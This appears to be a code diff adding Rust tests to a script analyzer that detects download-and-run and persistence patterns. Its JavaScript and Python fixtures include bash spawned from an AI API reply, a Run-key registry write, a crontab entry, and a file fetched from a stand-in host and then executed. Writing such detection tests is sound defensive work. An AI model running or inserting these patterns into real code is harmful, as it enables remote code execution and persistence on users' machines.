@@ -5,7 +5,7 @@ use super::reached::{has, has_not};
 use super::{command, outcome, rules};
 use crate::analyze::script::How;
 use crate::analyze::script::event::{Act, When};
-use crate::model::FileKind;
+use crate::model::{FileKind, Severity};
 use crate::parse::script::Language::{JavaScript, Php, Python};
 
 #[test]
@@ -281,4 +281,48 @@ fn a_folder_that_somebody_names_may_be_packed_and_carried_away() {
         severity(&code.replace("exports.deploy", "const w = execFileSync('whoami');\nexports.deploy")),
         Some(crate::model::Severity::High)
     );
+}
+
+/// How bad a rule is for a script; `None` where it does not fire.
+fn severity(language: crate::parse::script::Language, code: &str, rule: &str) -> Option<Severity> {
+    let outcome = outcome(language, code);
+    let flows = crate::analyze::script::flows::judge(&outcome, false);
+    flows.iter().filter(|f| f.rule.id == rule).map(|f| f.severity.unwrap_or(f.rule.severity)).max()
+}
+
+#[test]
+fn what_a_model_answers_is_no_download() {
+    let code = "const { spawn } = require('child_process');\n\
+                exports.run = async (q) => { const r = await (await fetch('https://api.anthropic.com/v1/messages', \
+                { method: 'POST', body: q })).json(); for (const b of r.content) spawn('bash', ['-c', b.input.command]); };";
+    has_not(JavaScript, code, "flow-download-run");
+    assert!(!rules(JavaScript, &code.replace("api.anthropic.com", "h.invalid")).is_empty());
+}
+
+#[test]
+fn keys_that_are_only_read_and_lines_that_a_program_adds_set_up_little() {
+    let looks = "import winreg\nRUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n\
+                 def is_enabled(name):\n    try:\n        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN) as k:\n            \
+                 winreg.QueryValueEx(k, name)\n    except FileNotFoundError:\n        return False\n";
+    has_not(Python, looks, "flow-persists");
+    has(Python, &looks.replace("RUN) as k", "RUN, 0, winreg.KEY_SET_VALUE) as k"), "flow-persists");
+    let jobs = "import subprocess, sys\ndef schedule(a):\n    \
+                old = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n    \
+                new = old.splitlines() + [f'30 2 * * * {sys.executable} -m tool.cli backup']\n    \
+                subprocess.run(['crontab', '-'], input='\\n'.join(new) + '\\n', text=True, check=True)\n\
+                if __name__ == '__main__':\n    schedule(sys.argv)\n";
+    assert_eq!(severity(Python, jobs, "flow-persists"), Some(Severity::Medium));
+    let fetches = jobs
+        .replace("def schedule", "import urllib.request\nurllib.request.urlopen('https://h.invalid/a')\ndef schedule");
+    assert_eq!(severity(Python, &fetches, "flow-persists"), Some(Severity::High));
+}
+
+#[test]
+fn a_digest_is_worked_out_of_a_download_and_nothing_is_started() {
+    let code = "const { execFileSync } = require('child_process'), fs = require('fs');\n\
+                (async () => { const r = await fetch('https://h.invalid/a.tar.gz'); \
+                fs.writeFileSync('/opt/a.tar.gz', Buffer.from(await r.arrayBuffer())); \
+                execFileSync('sha256sum', ['/opt/a.tar.gz']); })();";
+    has_not(JavaScript, code, "flow-download-run");
+    has(JavaScript, &code.replace("'sha256sum', ['/opt/a.tar.gz']", "'/opt/a.tar.gz', []"), "flow-download-run");
 }
